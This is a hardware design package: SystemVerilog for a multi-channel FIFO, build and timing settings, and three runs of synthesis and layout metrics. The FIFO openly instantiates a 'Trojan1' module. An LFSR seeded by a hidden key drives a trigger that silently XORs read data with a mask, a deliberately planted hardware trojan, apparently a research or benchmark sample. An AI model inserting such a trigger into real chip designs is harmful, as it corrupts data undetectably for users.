<file path="src/rtl/Trojan1.sv">
// Trojan1: watches the r1 bit stream and raises trigger when the last eight
// samples match a fixed pattern. Active-high asynchronous reset.
module Trojan1 (
   input  logic clk,
   input  logic rst,
   input  logic r1,
   output logic trigger
);

   logic [7:0] hist;

   always_ff @(posedge clk or posedge rst) begin
      if (rst) hist <= '0;
      else     hist <= {hist[6:0], r1};
   end

   assign trigger = (hist == 8'hA5);

endmodule

</file>
<file path="src/rtl/trojan1_mc_fifo_host.sv">
// Multi-channel FIFO host with per-channel flags and registered read path.
// Optional macro TROJAN1_MC_FIFO_ERR_CLR_EN adds a synchronous err_clr input.
module trojan1_mc_fifo_host #(
   parameter int DATA_WIDTH = 16,
   parameter int ADDR_WIDTH = 3,
   parameter int NUM_CH     = 4,
   parameter int AF_LEVEL   = 6,
   parameter int AE_LEVEL   = 1,
   parameter logic [DATA_WIDTH-1:0] XOR_MASK = 16'h005A,
   parameter logic [27:0] R1_KEY = 28'hBEEF123,
   localparam int CH_W = $clog2(NUM_CH),
   localparam int CW   = ADDR_WIDTH + 1
) (
   input  logic                   clk,
   input  logic                   rst,
   input  logic                   wr_en,
   input  logic [CH_W-1:0]        wr_ch,
   input  logic [DATA_WIDTH-1:0]  wr_data,
   input  logic                   rd_en,
   input  logic [CH_W-1:0]        rd_ch,
`ifdef TROJAN1_MC_FIFO_ERR_CLR_EN
   input  logic                   err_clr,
`endif
   output logic [DATA_WIDTH-1:0]  rd_data,
   output logic                   rd_valid,
   output logic [NUM_CH-1:0]      full,
   output logic [NUM_CH-1:0]      empty,
   output logic [NUM_CH-1:0]      almost_full,
   output logic [NUM_CH-1:0]      almost_empty,
   output logic [NUM_CH*CW-1:0]   level,
   output logic [NUM_CH-1:0]      overflow,
   output logic [NUM_CH-1:0]      underflow
);

   localparam int DEPTH = 1 << ADDR_WIDTH;

   logic [DATA_WIDTH-1:0] mem [NUM_CH][DEPTH];
   logic [CW-1:0]         cnt  [NUM_CH];
   logic [ADDR_WIDTH-1:0] wptr [NUM_CH];
   logic [ADDR_WIDTH-1:0] rptr [NUM_CH];

   logic        rd_acc, wr_acc, adv, r1, trigger;
   logic [27:0] lfsr;
   logic [2:0]  sel;
   logic [NUM_CH-1:0] ov_set, un_set, err_keep;

   assign rd_acc = rd_en && (cnt[rd_ch] != '0);
   assign wr_acc = wr_en && ((cnt[wr_ch] < CW'(DEPTH)) || (rd_acc && (rd_ch == wr_ch)));
   assign adv    = wr_en || rd_en;

   always_comb begin
      ov_set = '0;
      un_set = '0;
      for (int i = 0; i < NUM_CH; i++) begin
         ov_set[i] = wr_en && (wr_ch == CH_W'(i)) && !wr_acc;
         un_set[i] = rd_en && (rd_ch == CH_W'(i)) && (cnt[i] == '0);
      end
   end

`ifdef TROJAN1_MC_FIFO_ERR_CLR_EN
   assign err_keep = {NUM_CH{~err_clr}};
`else
   assign err_keep = '1;
`endif

   // Per-channel occupancy and pointers; a same-channel read+write nets to zero.
   always_ff @(posedge clk or negedge rst) begin
      if (!rst) begin
         for (int i = 0; i < NUM_CH; i++) begin
            cnt[i]  <= '0;
            wptr[i] <= '0;
            rptr[i] <= '0;
         end
         overflow  <= '0;
         underflow <= '0;
      end else begin
         for (int i = 0; i < NUM_CH; i++) begin
            if (wr_acc && (wr_ch == CH_W'(i))) wptr[i] <= wptr[i] + ADDR_WIDTH'(1);
            if (rd_acc && (rd_ch == CH_W'(i))) rptr[i] <= rptr[i] + ADDR_WIDTH'(1);
            if ((wr_acc && (wr_ch == CH_W'(i))) && !(rd_acc && (rd_ch == CH_W'(i))))
               cnt[i] <= cnt[i] + CW'(1);
            else if (!(wr_acc && (wr_ch == CH_W'(i))) && (rd_acc && (rd_ch == CH_W'(i))))
               cnt[i] <= cnt[i] - CW'(1);
         end
         overflow  <= (overflow  & err_keep) | ov_set;
         underflow <= (underflow & err_keep) | un_set;
      end
   end

   always_ff @(posedge clk) begin
      if (wr_acc) mem[wr_ch][wptr[wr_ch]] <= wr_data;
   end

   // Registered read stage; the old word is read even when overwritten this cycle.
   always_ff @(posedge clk or negedge rst) begin
      if (!rst) begin
         rd_data  <= '0;
         rd_valid <= 1'b0;
      end else begin
         rd_valid <= rd_acc;
         if (rd_acc) rd_data <= mem[rd_ch][rptr[rd_ch]] ^ (trigger ? XOR_MASK : '0);
      end
   end

   always_ff @(posedge clk or negedge rst) begin
      if (!rst) begin
         lfsr <= R1_KEY;
         sel  <= '0;
      end else if (adv) begin
         lfsr <= {lfsr[26:0], lfsr[27] ^ lfsr[24] ^ lfsr[2] ^ lfsr[1]};
         sel  <= sel + 3'd1;
      end
   end

   always_comb begin
      r1 = 1'b0;
      case (sel)
         3'd0: r1 = lfsr[0];
         3'd1: r1 = lfsr[4];
         3'd2: r1 = lfsr[8];
         3'd3: r1 = lfsr[12];
         3'd4: r1 = lfsr[16];
         3'd5: r1 = lfsr[20];
         3'd6: r1 = lfsr[24];
         default: r1 = lfsr[27];
      endcase
   end

   Trojan1 u_trojan1 (
      .clk     (clk),
      .rst     (~rst),
      .r1      (r1),
      .trigger (trigger)
   );

   always_comb begin
      full         = '0;
      empty        = '0;
      almost_full  = '0;
      almost_empty = '0;
      level        = '0;
      for (int i = 0; i < NUM_CH; i++) begin
         full[i]          = (cnt[i] == CW'(DEPTH));
         empty[i]         = (cnt[i] == '0);
         almost_full[i]   = (cnt[i] >= CW'(AF_LEVEL));
         almost_empty[i]  = (cnt[i] <= CW'(AE_LEVEL));
         level[i*CW +: CW] = cnt[i];
      end
   end

endmodule

</file>
<file path="config.mk">
export PLATFORM = sky130hd
export DESIGN_NAME = trojan1_mc_fifo_host
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/Trojan1.sv /design/src/rtl/trojan1_mc_fifo_host.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CORE_ASPECT_RATIO = 1.25
export CORE_MARGIN = 10
export CORE_UTILIZATION = 56
export DETAILED_ROUTE_END_ITERATION = 8
export HOLD_SLACK_MARGIN = 0.02
export PLACE_DENSITY_LB_ADDON = 0.12
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
</file>
<file path="constraint.sdc">
create_clock -name clk -period 2.9 [get_ports clk]
set_input_delay 0.435 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.435 -clock clk [all_outputs]
set_load 0.05 [all_outputs]
</file>
==> metrics, run 1 <==
DR vias/cell 6.10; Max Transition Viols Final 0; fraction of registers with async set/reset roughly 17%; Cell variety after synth 48; Max Fclk roughly 0.36 GHz; storage element area ~18000 sq um; syn_nets between 1000 and 1500; CTS root buffer clkbuf_16; worst hold margin approximately 180 ps; layout cells sized above 1 34.9%; largest net degree at the start of global routing 57; PD cells ~880 nW/um^2; Critical Path AT 3110 ps; Critical Path Most Common Cell buf_4; dpl ws 148 ps; 1st-iter DRT viols 977; setup_tns 0 ps; status finished clean; syn_area_per_cell a little under 20 sq um; Max H-tree Level 2; cts bufs inserted 58; final wirelength 54300 um; first-pass GRT wire length 82600 um; multi-input logic area around 6400 sq um; worst hold path class primary input to flip-flop; wire per inst about 26 um; port bufs 80; GPL Wtd Cong 0.803; top-area cell type share of the netlist area roughly 62%; cell leakage power 9.92 nW; Post-DP HPWL 33100 um; Critical Path Start Type flip-flop; Worst Path Class, Setup flip-flop to flip-flop; area of the mapped netlist 24800 sq um; Synth Register Bits 616; Die ar. 53100 sq um; Slew HR between 50 and 60%; Core Box Area 43900 sq um; Worst Skew 37.2 ps; sequential area share after synthesis ~73%; Worst VDD drop 1.21 mV; initial core utilization between 50% and 60%; nets@finish about 1500; Area Growth Syn to Fin 15.9%; synth top area cells edfxtp_1, mux4_2, dfrtp_1, mux2_2, mux2i_1; vias in the first global route 12924; Yosys warning total 0; initial antenna violation count 2; Total Routing Usage GR around a fifth; num ports 81; synthesized instance count 1266; Routed Antenna Nets 0; Fillers 2973; DIE HEIGHT roughly 260 um; Worst-Skew Late Latency 650 ps; post-layout util between 60 and 70%; Sink Count 616; clk buf depth 3; first-pass iteration count of the detailed router 5; postcts setup bufs 0; site row count 86; number of synthesized flops with an enable pin about 510; Worst path slowest cell mux4_2; Worst EP required 3230 ps; Final Hold Fails 0; Setup Viol. Count Final 0; Die W 208 um; top_reg_cell synth edfxtp_1; Worst-path clk slew 60 ps; Synth area leader edfxtp_1; nature of the critical path endpoint flip-flop; crit path cell chain nor4_1 > buf_4 > mux4_2 > o31ai_4 > buf_4 > nand3_1 > nor2_2 > buf_12; CTS tree yes; detailed-route DRC error count 0; CP max stage delay 520 ps; # Max-Cap Violations 0; commonest non-fill, non-tap cell in the layout edfxtp_1; Final period util 95.7%; Final min period 2780 ps; RSZ-0062 raised after global routing no; GRT overflow 0; worst setup margin 125 ps; routed via count roughly 13000; worst slew pin tran around 730 ps; most frequent cells in the layout edfxtp_1, mux4_2, buf_2, dfrtp_1; CP Max Fanout 11
[cells in the mapped netlist (13+ instances only)]
master and n:
dfrtp_1 87, edfxtp_1 512, o211ai_1 13, nand3_1 19
ha_1 33, mux2_2 51, inv_1 18, mux2i_1 46
xnor2_1 26, buf_2 21, dfstp_2 17, mux4_2 135
nor2_1 59, clkbuf_1 22, nand2_1 32, o21ai_0 15
nor2b_1 16
[final timing paths]
check	startpoint	slack (ps)	cells after the start	to
setup / recovery	level[14]$_DFFE_PN0P_	120	8	mem[1][32]$_DFFE_PP_
max in group asynchronous	rst	1670	3	lfsr[15]$_DFFE_PN1P_
hold / removal	rd_ch[0]	180	3	rptr[2]$_DFFE_PN0P_
setup reg to reg	level[14]$_DFFE_PN0P_	120	8	mem[1][32]$_DFFE_PP_
hold reg to reg	u_trojan1.hist[4]$_DFF_PN0_	380	0	u_trojan1.hist[5]$_DFF_PN0_
min in group asynchronous	rst	390	2	underflow[0]$_DFF_PN0_
[area by class of cell]
type / instances / area share [%]
clock inverter: 32 / 1.22
timing repair buffer: 173 / 5.43
sequential: 616 / 62.8
tap: 572 / 2.49
antenna: 1 / 0.00872
inverter: 19 / 0.248
multi-input combinational: 568 / 22.4
clock buffer: 77 / 5.45
[registers in the layout, indices dropped and copies added (netlist names)]
name / count
rptr: 12
level: 16
overflow: 4
u_trojan1.hist: 8
lfsr: 28
sel: 3
rd_data: 16
rd_valid: 1
mem: 512
wptr: 12
underflow: 4
[logic make-up after synthesis]
group                    Yosys count  synth area share [%]
flip-flops                       616                  72.7
multiplexers                     232                  16.5
AND/OR/NAND/NOR                  171                  3.39
AO/OA/AOI/OAI                     94                  2.72
buffers and inverters             82                  1.75
XOR/XNOR                          38                  1.34
adder cells (fa/ha/maj)           33                  1.67
[power breakdown]
part | internal [mW] | switching [mW] | leakage, nW
registers | 10.7 | 0.606 | 5.79
logic | 2.28 | 4.14 | 3.19
clock network | 4.34 | 3.28 | 0.932
total | 17.3 | 8.02 | 9.92
[critical path, delay by kind of cell, from the launching register on]
family / cells / cell delay (ps)
buf+inv: 3 / 560
simple gates: 3 / 590
flops: 1 / 360
compound gates: 1 / 440
mux: 1 / 520
[timing repair]
item,4_1_cts,5_1_grt
hold buffers,1,0
gates resized for setup,0,1
endpoints found under the hold margin,48,0
setup endpoints to repair,0,1
[metrics by stage]
step                cells  instance area (sq um)  total power, mW
finish               2058                  28700             25.3
floorplan            1266                  24900             15.7
detailed placement   1947                  26800             17.9
global placement     1947                  26800             17.8
global route         2058                  28700             26.3
CTS                  2057                  28700             25.5
[layer usage]
metal / global-route usage [%] / vias to the layer above / part of all wire [%]
li1: - / 5427 / -
met1: 27.5 / 6626 / 40
met2: 35.0 / 416 / 51
met3: 3.20 / 82 / 6.4
met4: 6.24 / 2 / 2.3
met5: 0 / - / 0.024
No activity file was read; power rests on OpenSTA's default activity.
==> run 2, diff against run 1 <==
- ABC_AREA: default -> 1
- CAP_MARGIN: default -> 20
==> run 2 against run 1 <==
Final cell count rose by 42%; clock skew is 16 ps lower; total power grew 0.20%; critical path type unchanged; highest routed layer is now met4; register-to-register slack improved by 130 ps.
==> metrics, run 2 <==
CP max stage delay 440 ps (-80 ps); Setup Viol. Count Final 0 (unchanged); Critical Path Start Type flip-flop; worst slew pin tran 765 ps (+30.7 ps); cell leakage power 11.3 nW (+14%); syn_area_per_cell 11.6 sq um (-41%); syn_nets 2236 (+69%); vias in the first global route 16525 (+28%); Slew HR 49.0% (-2.0 points); status finished clean; Critical Path Most Common Cell inv_1; Die W 210 um (+1.0%); synthesized instance count 2179 (+72%); # Max-Cap Violations 0 (unchanged); layout cells sized above 1 13.8% (-21 points); largest net degree at the start of global routing 123 (+120%); met2 WL 31700 um (+15%); GPL Wtd Cong 0.814 (+1.3%); fin cells 2927 (+42%); Max Transition Viols Final 0 (unchanged); post-layout util 64.5% (-0.82 points); GRT overflow 0 (unchanged); worst setup margin 259 ps (+134 ps); final wirelength 63400 um (+17%); # diodes 0 (-1); CTS root buffer clkbuf_16; DR vias/cell 5.69 (-6.7%); CP Max Fanout 6 (-5); crit path buf inv count 3 (unchanged); max reg flops 512 (unchanged); Worst EP required 3410 ps (+180 ps); nets@finish 2357 (+58%); Post-DP HPWL 37800 um (+14%); fraction of registers with async set/reset 16.9% (unchanged); Worst-Skew Late Latency 630 ps (-20 ps); sequential area share after synthesis 71.0% (-1.6 points); Worst-path clk slew 60 ps (about the same); Max Fclk 0.379 GHz (+5.1%); top cells by count, synth nand2_1, edfxtp_1, nand3_1; Worst path slowest cell dfrtp_1; first-pass iteration count of the detailed router 5 (unchanged); Yosys warning total 0 (unchanged); 1st-iter DRT viols 1465 (+50%); top-area cell type share of the netlist area 60.7% (-1.4 points); nature of the critical path endpoint flip-flop; site row count 87 (+1.2%); Metal-1 WL 26000 um (+19%); Core Box Area 45000 sq um (+2.4%); Worst Skew 20.8 ps (-16.4 ps); initial antenna violation count 0 (-2); Worst Path Class, Setup flip-flop to flip-flop; highest metal used met4; Critical Path AT 3150 ps (+40 ps); Final min period 2640 ps (-134 ps); first-pass GRT wire length 97500 um (+18%); Worst VDD drop 0.684 mV (-43%); Area Growth Syn to Fin 14.5%; Total Routing Usage GR 23.4% (+2.6 points); crit path cell chain inv_1 > nand3_1 > o21ai_0 > nand2_1 > nor2_1 > nor2_4 > nand2_1 > nand2_2 > nand3_2 > inv_1 > ha_1 > a21oi_1 > o21ai_0 > xor2_1 > inv_1; total power 25.3 mW (+0.20%); port bufs 80 (unchanged); Sink Count 616 (unchanged); commonest non-fill, non-tap cell in the layout nand2_1; Synth Register Bits 616 (unchanged); Final period util 91.1% (-4.6 points); fin area 29000 sq um (+1.1%); Final Hold Fails 0 (unchanged); most frequent cells in the layout nand2_1, edfxtp_1, nand3_1, nor2_1, nand4_1; RSZ-0062 raised after global routing no; Max H-tree Level 2 (unchanged); Die ar. 54200 sq um (+2.1%); dpl cells 2817 (+45%); PD cells 873 nW/um^2 (-0.90%); number of synthesized flops with an enable pin 512 (unchanged); synth top area cells edfxtp_1, nand2_1, dfrtp_1, nand3_1, nand4_1; cell family with most CP delay simple AND/OR/NAND/NOR gates; wire per inst 21.7 um (-18%); most frequent cell after synthesis nand2_1; Placed Instance Area 27000 sq um (+0.86%); area of the mapped netlist 25300 sq um (+2.3%); num ports 81 (unchanged); DIE HEIGHT 258 um (+1.1%); met3 WL 4020 um (+16%); routed via count 16663 (+33%); postcts setup bufs 0 (unchanged); dpl ws 56.1 ps (-92.0 ps); Synth area leader edfxtp_1; detailed-route DRC error count 0 (unchanged); top_reg_cell synth edfxtp_1; Routed Antenna Nets 0 (unchanged); initial core utilization 56.4% (about the same); CTS tree yes; worst hold path class primary input to flip-flop; clk buf depth 3 (unchanged); cts bufs inserted 58 (unchanged); Cell variety after synth 37 (-23%)
[run 2: cell count changes in the layout (fill, tap and decap cells not counted), moves of 20 or more]
cell	change
nand4_1	+84
o21ai_0	+20
nand2_1	+776
mux4_2	-134
nor2_2	-31
mux2_2	-28
mux2i_1	-46
inv_1	+55
a21oi_1	+29
nand3_1	+126
nor2_1	+78
[run 2: cells by family (layout without fill, tap and decap cells)]
| kind of cell | Yosys count | count (layout) | synth area share [%] |
|---|---|---|---|
| AND/OR/NAND/NOR | 1181 | 1181 | 19.6 |
| flip-flops | 616 | 616 | 71.0 |
| buffers and inverters | 184 | 354 | 2.99 |
| AO/OA/AOI/OAI | 109 | 109 | 2.60 |
| adder cells (fa/ha/maj) | 33 | 33 | 1.63 |
| XOR/XNOR | 33 | 33 | 1.14 |
| multiplexers | 23 | 23 | 1.02 |
[run 2: worst paths after layout]
| path | from | end | slack [ps] | cells after the start |
|---|---|---|---|---|
| setup / recovery | level[4]$_DFFE_PN0P_ | level[10]$_DFFE_PN0P_ | 260 | 15 |
| hold / removal | rd_en | underflow[1]$_DFF_PN0_ | 230 | 2 |
| setup reg to reg | level[4]$_DFFE_PN0P_ | level[10]$_DFFE_PN0P_ | 260 | 15 |
| hold reg to reg | u_trojan1.hist[3]$_DFF_PN0_ | u_trojan1.hist[4]$_DFF_PN0_ | 380 | 0 |
| max in group asynchronous | rst | lfsr[1]$_DFFE_PN1P_ | 1670 | 3 |
| min in group asynchronous | rst | underflow[3]$_DFF_PN0_ | 410 | 2 |
[run 2: repair_timing]
action | CTS | global route
hold buffers | 1 | 0
hold endpoints to repair | 48 | 0
resized for setup | 0 | 1
setup endpoints to repair | 0 | 1
[run 2: final cells by class]
class,count,area [sq um]
clock buffers,76,1590
inverters,81,305
flip-flops and latches,616,18000
well taps,578,723
fillers,3421,15900
repair buffers,164,1370
clock inverters,33,414
multi-input cells,1379,6610
[run 2: stage by stage]
stage,setup TNS (ps),hold WS [ps]
4_1_cts,0,218
5_1_grt,0,244
3_3_place_gp,0,361
3_5_place_dp,0,365
2_1_floorplan,-5300,139
6_report,0,227
[run 2: worst reg2reg max path: stages (launching register included)]
cell	delay (ps)
dfrtp_1	440
inv_1	150
nand3_1	150
o21ai_0	200
nand2_1	80
nor2_1	180
nor2_4	70
nand2_1	80
nand2_2	110
nand3_2	130
inv_1	90
ha_1	360
a21oi_1	140
o21ai_0	120
xor2_1	170
inv_1	50
[run 2: layer usage]
layer,up-vias,track usage (%)
met4,0,8.08
met5,-,0
met2,613,39.7
met3,104,3.25
li1,7765,-
met1,8181,30.3
[run 2: power by group]
group	internal, mW	switching, mW	total, mW
sequential	10.6	0.707	11.3
clock	4.67	3.28	7.95
combinational	1.78	4.33	6.11
==> run 3, diff against run 2 <==
- BUFFER_PORTS_ARGS: -buffer_cell sky130_fd_sc_hd__buf_2 -> -buffer_cell sky130_fd_sc_hd__buf_4
- clock period: 2.9 -> 2.1 ns (I/O delays scaled with it)
==> run 3 against run 2 <==
Register-to-register slack worse by 370 ps; critical path type unchanged; sequential cell count unchanged; clock skew up 2.5 ps; worst setup slack worse by 370 ps; global-route usage up 0.95 points; final cell count up 3.7%; via count up 3.9%; clock power up 31%; hold slack worse by 110 ps; routed wire length up 4.9%; combinational power up 73%; sequential power up 36%; the flow now finishes with violations (negative setup slack).
==> metrics, run 3 (synthesis gave the netlist of run 2 again) <==
Critical Path AT 2550 ps (-600 ps); Worst EP required 2440 ps (-970 ps); RSZ-0062 raised after global routing yes; Sink Count 616 (unchanged); post-layout util 68.9% (+4.4 points); routed via count 17313 (+3.9%); Routed Antenna Nets 0 (unchanged); first-pass iteration count of the detailed router 6 (+1); storage element area 18000 sq um (+0.11%); Worst-Skew Late Latency 630 ps (about the same); Area Growth Syn to Fin 22.3%; met3 GRT Util 4.13% (+0.88 points); multi-input logic area 7130 sq um (+7.9%); Fillers 3177 (-7.1%); cts bufs inserted 56 (-3.4%); CP Max Fanout 7 (+1); Final min period 2210 ps (-435 ps); total power 36.5 mW (+44%); worst hold margin 113 ps (-114 ps); cell leakage power 12.0 nW (+5.6%); Worst path slowest cell dfrtp_2; crit path buf inv count 6 (+3); Critical Path Start Type flip-flop; DIE HEIGHT 258 um (unchanged); nets@finish 2467 (+4.7%); first-pass GRT wire length 101000 um (+3.5%); Final Hold Fails 0 (unchanged); Final period util 105% (+14 points); Worst-path clk slew 60 ps (about the same); Setup Viol. Count Final 386 (+386); Core Box Area 45000 sq um (unchanged); worst setup margin -106 ps (-365 ps); worst slew pin tran 894 ps (+129 ps); worst hold path class primary input to flip-flop; layout cells sized above 1 22.3% (+8.5 points); met1 usage 29.5% (-0.83 points); CTS tree yes; initial core utilization 56.4% (unchanged); max reg flops 512 (unchanged); vias in the first global route 17433 (+5.5%); Max H-tree Level 2 (unchanged); CP max stage delay 430 ps (about the same); wire per inst 21.9 um (+1.2%); Worst Path Class, Setup flip-flop to flip-flop; met2 Use GR 42.7% (+3.0 points); DR vias/cell 5.70 (+0.17%); Total Routing Usage GR 24.3% (+0.95 points); Worst VDD drop 1.12 mV (+64%); GPL Wtd Cong 0.845 (+3.8%); status finished with violations; clk buf depth 3 (unchanged); Post-DP HPWL 40900 um (+8.2%); initial antenna violation count 0 (unchanged); detailed-route DRC error count 0 (unchanged); commonest non-fill, non-tap cell in the layout nand2_1; GRT overflow 0 (unchanged); 1st-iter DRT viols 1321 (-9.8%); Worst Skew 23.3 ps (+2.53 ps); final wirelength 66600 um (+4.9%); failing checks negative setup slack; Slew HR 40.4% (-8.6 points); Max Fclk 0.453 GHz (+20%); crit path cell chain buf_4 > inv_1 > o221ai_2 > nand2_4 > buf_6 > buf_12 > nand4_4 > buf_12 > nor2_4 > clkbuf_16; most frequent cells in the layout nand2_1, edfxtp_1, buf_4, nand3_1, nand4_1; cell family with most CP delay buffers and inverters; # diodes 0 (unchanged); Critical Path Most Common Cell buf_12; PD cells 1180 nW/um^2 (+35%); nature of the critical path endpoint flip-flop; num ports 81 (unchanged); port bufs 80 (unchanged); dpl ws -280 ps (-336 ps); Die W 210 um (unchanged); largest net degree at the start of global routing 76 (-38%); CTS root buffer clkbuf_16; # Max-Cap Violations 0 (unchanged); most used routing layer met2; Max Transition Viols Final 0 (unchanged); Die ar. 54200 sq um (unchanged); site row count 87 (unchanged)
[run 3: cell types whose count changed in the layout (fill, tap and decap cells not counted), moves of 16 or more]
cell     change
dfrtp_2     +16
nor2_4      +34
inv_2       +16
buf_4      +140
buf_12      +32
buf_2       -79
buf_6       +17
nor2_1      -44
inv_1       -17
dfrtp_1     -16
[run 3: worst register-to-register path, stage by stage (launching register included)]
cell and delay, ps:
dfrtp_2 430, buf_4 160, inv_1 120, o221ai_2 140, nand2_4 160, buf_6 130, buf_12 130, nand4_4 100
buf_12 180, nor2_4 180, clkbuf_16 200
[run 3: through the flow]
step / setup TNS [ps] / cells / cell area, sq um
after global routing: -44550 / 3036 / 31000
final: -7710 / 3036 / 31000
after floorplan: -140030 / 2179 / 25600
after CTS: -25950 / 3031 / 30800
after global placement: -100360 / 2914 / 28600
after detailed placement: -108560 / 2914 / 28600
[run 3: area by class of cell]
cell class	instances	share of cell area, %
well taps	578	2.33
clock buffers	71	5.00
inverters	81	0.997
repair buffers	276	9.36
flip-flops and latches	616	58.1
multi-input cells	1379	23.0
clock inverters	35	1.13
[run 3: per-layer routing]
layer | up-vias | wire length (um)
met1 | 8569 | 25200
met5 | - | 0
met3 | 114 | 4730
met4 | 0 | 2300
li1 | 7981 | -
met2 | 649 | 34400
[run 3: report_power, final]
group / total [mW] / internal, mW / switching [mW]
registers: 15.4 / 14.6 / 0.807
clock network: 10.4 / 5.97 / 4.48
logic: 10.6 / 3.86 / 6.77
[run 3: final timing paths]
path / from / end / slack [ps] / cells past startpoint
max: level[15]$_DFFE_PN0P_ / mem[0][76]$_DFFE_PP_ / -110 / 10
min: wr_data[2] / mem[0][82]$_DFFE_PP_ / 110 / 1
max reg2reg: level[15]$_DFFE_PN0P_ / mem[0][76]$_DFFE_PP_ / -110 / 10
min reg2reg: u_trojan1.hist[3]$_DFF_PN0_ / u_trojan1.hist[4]$_DFF_PN0_ / 370 / 0
max in group asynchronous: rst / lfsr[24]$_DFFE_PN1P_ / 1300 / 3
min in group asynchronous: rst / level[9]$_DFFE_PN0P_ / 170 / 2
[run 3: timing repair]
| action | 4_1_cts | 5_1_grt |
|---|---|---|
| hold endpoints to repair | 50 | 0 |
| resized for setup | 44 | 43 |
| pin swaps | 18 | 17 |
| hold buffers | 1 | 0 |
| cloned | 0 | 1 |
| buffers inserted | 18 | 8 |
| endpoints found under the setup margin | 508 | 556 |
